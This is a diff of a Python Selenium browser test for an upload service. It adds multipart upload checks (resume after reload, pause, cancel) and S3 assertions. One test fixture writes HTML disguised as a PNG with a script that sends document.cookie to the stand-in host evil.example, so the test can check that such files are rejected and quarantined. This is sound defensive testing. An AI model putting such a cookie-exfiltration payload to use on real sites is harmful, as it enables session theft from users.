@@ -4,10 +4,14 @@ against `upload-edge serve` with everything it starts.
     upload_page_test.py --upload-edge .build/debug/upload-edge [--screenshot PATH]
 
 1. sign in as the dev user that serve prints;
-2. upload a valid PNG and see it become validated;
-3. upload HTML renamed .png and see it rejected, and quarantined in S3;
-4. choose a file over the limit and see it refused before any upload, with the message shown;
-5. let the session expire and be sent back to sign-in.
+2. upload a 40 MiB PNG in 8 parts, interrupted: with parts 4-8 held back in the browser (Chrome DevTools' Fetch
+   domain), reload the page once parts 1-3 are in S3, choose the file again and see it resume (sending only parts
+   4-8) and end validated, 40 MiB in S3 with its owner in the metadata;
+3. upload a valid PNG and see it become validated;
+4. upload HTML renamed .png and see it rejected, and quarantined in S3;
+5. choose a file over the limit and see it refused before any upload, with the message shown;
+6. pause, resume and cancel an upload in parts, and see it aborted in S3;
+7. let the session expire and be sent back to sign-in.
 
 Then Ctrl-C (SIGINT) to serve, which must stop everything it started. Exits non-zero on the first failure, with
 the page's text and a screenshot for the failing step.
@@ -16,6 +20,7 @@ the page's text and a screenshot for the failing step.
 import argparse
 import os
 import re
+import shutil
 import signal
 import struct
 import subprocess
@@ -33,24 +38,54 @@ from selenium.webdriver.common.by import By
 from selenium.webdriver.support import expected_conditions as ec
 from selenium.webdriver.support.ui import WebDriverWait
 
-MAX_BYTES = 65536
+MIB = 1024 * 1024
+MAX_BYTES = 50 * MIB
+MULTIPART_THRESHOLD = 16 * MIB
+PART_BYTES = 5 * MIB
+BIG_BYTES = 40 * MIB
 PORT = 8093
+BUCKET = "upload-edge-local"
+RESUME_PREFIX = "uploadedge.multipart."
 
 
 def step(text):
     print(f"==> {text}", flush=True)
 
 
+def png_chunk(kind, data):
+    body = kind + data
+    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body) & 0xFFFFFFFF)
+
+
 def png_bytes(width=16, height=16):
     """A real PNG: signature, IHDR, one IDAT of grey pixels, IEND."""
-
-    def chunk(kind, data):
-        body = kind + data
-        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body) & 0xFFFFFFFF)
-
     rows = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
     header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + png_chunk(b"IHDR", header)
+        + png_chunk(b"IDAT", zlib.compress(rows))
+        + png_chunk(b"IEND", b"")
+    )
+
+
+def large_png_bytes(size, width=4096):
+    """A real PNG of exactly `size` bytes: random grey rows stored (zlib level 0) in one huge IDAT, then a tEXt
+    comment that pads it to the byte. No byte is "<", so no stretch of noise reads as markup to the validator."""
+    fixed = 8 + (12 + 13) + 12 + 12 + (12 + len(b"Comment\x00"))  # signature, IHDR, IDAT, IEND, tEXt overheads
+    # zlib level 0: 2 + 4 bytes around the data, 5 bytes per stored block of up to 65535 bytes.
+    height = (size - fixed - 1024) * 65535 // (65540 * (width + 1))
+    noise = os.urandom(height * width).translate(bytes(b if b != 0x3C else 0x3D for b in range(256)))
+    rows = b"".join(b"\x00" + noise[row * width : (row + 1) * width] for row in range(height))
+    idat = zlib.compress(rows, 0)
+    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    head = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat)
+    padding = size - len(head) - 12 - 12 - len(b"Comment\x00")
+    if padding < 0:
+        raise ValueError(f"cannot make a PNG of {size} bytes this way")
+    data = head + png_chunk(b"tEXt", b"Comment\x00" + b"p" * padding) + png_chunk(b"IEND", b"")
+    assert len(data) == size
+    return data
 
 
 class Failure(Exception):
@@ -60,7 +95,18 @@ class Failure(Exception):
 def start_serve(binary):
     step("starting upload-edge serve (it installs what is missing on first use)")
     serve = subprocess.Popen(
-        [binary, "serve", "--port", str(PORT), "--max-bytes", str(MAX_BYTES)],
+        [
+            binary,
+            "serve",
+            "--port",
+            str(PORT),
+            "--max-bytes",
+            str(MAX_BYTES),
+            "--multipart-threshold",
+            str(MULTIPART_THRESHOLD),
+            "--part-bytes",
+            str(PART_BYTES),
+        ],
         stdout=subprocess.PIPE,
         text=True,
         start_new_session=True,
@@ -143,17 +189,188 @@ def choose_and_upload(driver, path):
     driver.find_element(By.ID, "upload-button").click()
 
 
+def s3_client():
+    return boto3.client(
+        "s3",
+        endpoint_url="http://127.0.0.1:4566",
+        region_name="eu-west-1",
+        aws_access_key_id="test",
+        aws_secret_access_key="test",
+        config=botocore.config.Config(s3={"addressing_style": "path"}),
+    )
+
+
+def hold_parts(driver, numbers):
+    """Holds these parts' PUTs in the browser, never sent, as on a stalled network (Chrome DevTools' Fetch domain
+    pauses matching requests until told to go on, which the test never does); everything else goes through."""
+    patterns = []
+    for number in numbers:
+        patterns += [{"urlPattern": f"*partNumber={number}&*"}, {"urlPattern": f"*partNumber={number}"}]
+    driver.execute_cdp_cmd("Fetch.enable", {"patterns": patterns})
+
+
+def release_parts(driver):
+    driver.execute_cdp_cmd("Fetch.disable", {})
+
+
+def resume_entry(driver, name):
+    """The page's localStorage entry for an upload in parts of this file name, or None."""
+    return driver.execute_script(
+        """
+        for (const id of Object.keys(localStorage)) {
+          if (!id.startsWith(arguments[1])) continue;
+          const entry = JSON.parse(localStorage.getItem(id));
+          if (entry && entry.name === arguments[0]) return entry;
+        }
+        return null;
+        """,
+        name,
+        RESUME_PREFIX,
+    )
+
+
+def wait_for_entry(driver, name, seconds=30):
+    try:
+        return WebDriverWait(driver, seconds).until(lambda driver: resume_entry(driver, name))
+    except TimeoutException:
+        row = row_for(driver, name)
+        raise Failure(f"no upload in parts began for {name} within {seconds} s; it shows {row.text if row else None!r}")
+
+
+def stored_parts(s3, entry):
+    """{part number: size} of what S3 holds for the upload."""
+    answer = s3.list_parts(Bucket=BUCKET, Key=entry["key"], UploadId=entry["uploadId"])
+    return {part["PartNumber"]: part["Size"] for part in answer.get("Parts", [])}
+
+
+def wait_for_parts(s3, entry, numbers, seconds=60):
+    deadline = time.time() + seconds
+    parts = {}
+    while time.time() < deadline:
+        parts = stored_parts(s3, entry)
+        if set(numbers) <= set(parts):
+            return parts
+        time.sleep(0.2)
+    raise Failure(f"parts {sorted(numbers)} did not reach S3 within {seconds} s; it holds {sorted(parts)}")
+
+
+def upload_exists(s3, entry):
+    answer = s3.list_multipart_uploads(Bucket=BUCKET, Prefix=entry["key"])
+    return any(upload["UploadId"] == entry["uploadId"] for upload in answer.get("Uploads", []))
+
+
+def click(row, name):
+    button = row.find_element(By.CSS_SELECTOR, f"button.{name}")
+    if not button.is_displayed():
+        raise Failure(f"{row.find_element(By.CSS_SELECTOR, '.file-name').text} has no {name} button: {row.text!r}")
+    button.click()
+
+
+def sign_in(driver, wait, details):
+    driver.get(details["url"])
+    wait.until(ec.visibility_of_element_located((By.ID, "username")))
+    driver.find_element(By.ID, "username").send_keys(details["username"])
+    driver.find_element(By.ID, "password").send_keys(details["password"])
+    driver.find_element(By.ID, "sign-in-button").click()
+    wait.until(ec.visibility_of_element_located((By.ID, "upload-section")))
+
+
+def resumes_after_reload(driver, wait, s3, path):
+    """Step 2: 8 parts; 1-3 land, 4-8 are held; reload; the same file again sends only 4-8 and is validated."""
+    name = os.path.basename(path)
+    hold_parts(driver, range(4, 9))
+    choose_and_upload(driver, path)
+    entry = wait_for_entry(driver, name)
+    if entry["partCount"] != 8 or entry["partSize"] != PART_BYTES:
+        raise Failure(f"a 40 MiB file should go up in 8 parts of 5 MiB: {entry}")
+    wait_for_parts(s3, entry, [1, 2, 3])
+    driver.refresh()
+    release_parts(driver)
+    wait.until(ec.visibility_of_element_located((By.ID, "upload-section")))
+    before = stored_parts(s3, entry)
+    if sorted(before) != [1, 2, 3] or any(size != PART_BYTES for size in before.values()):
+        raise Failure(f"before resuming, S3 should hold parts 1-3 of 5 MiB: {before}")
+    unfinished = driver.find_element(By.ID, "unfinished")
+    if not unfinished.is_displayed() or name not in unfinished.text:
+        raise Failure(f"after the reload the page does not list {name} as unfinished: {unfinished.text!r}")
+
+    choose_and_upload(driver, path)
+    row = wait_for_state(driver, name, {"validated"}, seconds=90)
+    resumed, sent = row.get_attribute("data-parts-resumed"), row.get_attribute("data-parts-sent")
+    if (resumed, sent) != ("3", "5"):
+        raise Failure(f"the resumed upload should find 3 parts stored and send 5; it found {resumed} and sent {sent}")
+    bar = row.find_element(By.TAG_NAME, "progress")
+    if bar.get_attribute("value") != bar.get_attribute("max"):
+        raise Failure(f"the progress bar of a finished upload is not full: {bar.get_attribute('value')}")
+    head = s3.head_object(Bucket=BUCKET, Key=entry["key"])
+    if head["ContentLength"] != BIG_BYTES:
+        raise Failure(f"the object in S3 is {head['ContentLength']} bytes, not {BIG_BYTES}")
+    if not head["Metadata"].get("owner"):
+        raise Failure(f"the object in S3 has no owner in its metadata: {head['Metadata']}")
+    if upload_exists(s3, entry):
+        raise Failure("the completed upload is still listed as in progress in S3")
+    if resume_entry(driver, name) is not None:
+        raise Failure("the page still keeps the finished upload in localStorage")
+
+
+def save_screenshot(driver, path):
+    """The whole page, not just the window: the viewport made as tall as the page for the moment of the shot."""
+    width = driver.execute_script("return window.innerWidth")
+    height = driver.execute_script("return document.documentElement.scrollHeight")
+    metrics = {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": False}
+    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
+    try:
+        driver.save_screenshot(path)
+    finally:
+        driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
+    step(f"screenshot: {path}")
+
+
+def pauses_resumes_and_cancels(driver, s3, path, screenshot):
+    """Step 6: 4 parts, 2-4 held: pause once part 1 is in, resume, then cancel: S3 no longer has the upload."""
+    name = os.path.basename(path)
+    hold_parts(driver, range(2, 5))
+    try:
+        choose_and_upload(driver, path)
+        entry = wait_for_entry(driver, name)
+        wait_for_parts(s3, entry, [1])
+        row = wait_for_state(driver, name, {"uploading"}, seconds=10)
+        click(row, "pause")
+        row = wait_for_state(driver, name, {"paused"}, seconds=10)
+        if "Paused: 1 of 4 parts stored" not in row.text or "Resume" not in row.text:
+            raise Failure(f"a paused upload does not say so or offer to resume: {row.text!r}")
+        if screenshot:
+            save_screenshot(driver, screenshot)
+        click(row, "resume")
+        row = wait_for_state(driver, name, {"resuming", "uploading"}, seconds=10)
+        click(row, "cancel")
+        row = wait_for_state(driver, name, {"cancelled"}, seconds=20)
+        if upload_exists(s3, entry):
+            raise Failure("the cancelled upload was not aborted in S3")
+        if resume_entry(driver, name) is not None:
+            raise Failure("the page still keeps the cancelled upload in localStorage")
+    finally:
+        release_parts(driver)
+
+
 def run(binary, screenshot):
     workdir = tempfile.mkdtemp(prefix="ue-browser-")
     good = os.path.join(workdir, "holiday.png")
     evil = os.path.join(workdir, "cat.png")
     large = os.path.join(workdir, "poster.png")
+    big = os.path.join(workdir, "big.png")
+    medium = os.path.join(workdir, "banner.png")
     with open(good, "wb") as f:
         f.write(png_bytes())
     with open(evil, "wb") as f:
         f.write(b"<!doctype html><html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>")
     with open(large, "wb") as f:
-        f.write(png_bytes() + b"\x00" * (MAX_BYTES + 1))
+        f.write(png_bytes())
+        f.truncate(MAX_BYTES + 10 * MIB)  # sparse: it is refused before any byte is read
+    with open(big, "wb") as f:
+        f.write(large_png_bytes(BIG_BYTES))
+    with open(medium, "wb") as f:
+        f.write(large_png_bytes(MULTIPART_THRESHOLD + MIB))
 
     before = processes()
     serve, details = start_serve(binary)
@@ -161,57 +378,48 @@ def run(binary, screenshot):
     try:
         driver = browser()
         wait = WebDriverWait(driver, 30)
+        s3 = s3_client()
 
         step("1. signing in")
-        driver.get(details["url"])
-        wait.until(ec.visibility_of_element_located((By.ID, "username")))
-        driver.find_element(By.ID, "username").send_keys(details["username"])
-        driver.find_element(By.ID, "password").send_keys(details["password"])
-        driver.find_element(By.ID, "sign-in-button").click()
-        wait.until(ec.visibility_of_element_located((By.ID, "upload-section")))
+        sign_in(driver, wait, details)
         limits = driver.find_element(By.ID, "limits").text
-        if "64.0 KB" not in limits:
+        if "50.0 MB" not in limits:
             raise Failure(f"the page does not show the advertised limit: {limits!r}")
 
-        step("2. a valid PNG becomes validated")
+        step("2. a 40 MiB PNG goes up in 8 parts, survives a reload mid-way, resumes and becomes validated")
+        resumes_after_reload(driver, wait, s3, big)
+
+        step("3. a valid PNG becomes validated")
         choose_and_upload(driver, good)
         row = wait_for_state(driver, "holiday.png", {"validated"})
-        if int(row.find_element(By.TAG_NAME, "progress").get_attribute("value")) != 100:
+        bar = row.find_element(By.TAG_NAME, "progress")
+        if bar.get_attribute("value") != bar.get_attribute("max"):
             raise Failure("the progress bar of a finished upload is not full")
 
-        step("3. HTML renamed .png is rejected and quarantined")
+        step("4. HTML renamed .png is rejected and quarantined")
         choose_and_upload(driver, evil)
         row = wait_for_state(driver, "cat.png", {"rejected"})
         if "markup or script" not in row.text:
             raise Failure(f"the rejection does not say why: {row.text!r}")
-        s3 = boto3.client(
-            "s3",
-            endpoint_url="http://127.0.0.1:4566",
-            region_name="eu-west-1",
-            aws_access_key_id="test",
-            aws_secret_access_key="test",
-            config=botocore.config.Config(s3={"addressing_style": "path"}),
-        )
-        keys = [item["Key"] for item in s3.list_objects_v2(Bucket="upload-edge-local").get("Contents", [])]
+        keys = [item["Key"] for item in s3.list_objects_v2(Bucket=BUCKET).get("Contents", [])]
         if not any(key.startswith("quarantine/") and key.endswith("/cat.png") for key in keys):
             raise Failure(f"cat.png is not in quarantine/: {keys}")
         if any(key.startswith("uploads/") and key.endswith("/cat.png") for key in keys):
             raise Failure(f"cat.png is still under uploads/: {keys}")
 
-        step("4. a file over the limit is refused before any upload")
+        step("5. a file over the limit is refused before any upload")
         choose_and_upload(driver, large)
         row = wait_for_state(driver, "poster.png", {"refused"}, seconds=10)
-        if "Too large" not in row.text or "64.0 KB" not in row.text:
+        if "Too large: 60.0 MB" not in row.text or "limit is 50.0 MB" not in row.text:
             raise Failure(f"the refusal does not say what to fix: {row.text!r}")
-        keys = [item["Key"] for item in s3.list_objects_v2(Bucket="upload-edge-local").get("Contents", [])]
+        keys = [item["Key"] for item in s3.list_objects_v2(Bucket=BUCKET).get("Contents", [])]
         if any(key.endswith("/poster.png") for key in keys):
             raise Failure("the refused file reached S3")
 
-        if screenshot:
-            driver.save_screenshot(screenshot)
-            step(f"screenshot: {screenshot}")
+        step("6. an upload in parts can be paused, resumed and cancelled, which aborts it in S3")
+        pauses_resumes_and_cancels(driver, s3, medium, screenshot)
 
-        step("5. an expired session sends you back to sign-in")
+        step("7. an expired session sends you back to sign-in")
         expired = driver.execute_script(
             """
             const b64 = (o) => btoa(JSON.stringify(o)).replace(/=+$/, '').replace(/\\+/g, '-').replace(/\\//g, '_');
@@ -237,7 +445,8 @@ def run(binary, screenshot):
         )
         if status != 401:
             raise Failure(f"the API answered {status}, not 401, to a bad token")
-        step("all five steps passed")
+        step("all seven steps passed")
+        shutil.rmtree(workdir, ignore_errors=True)
     except Exception:
         if driver is not None:
             path = os.path.join(workdir, "failure.png")
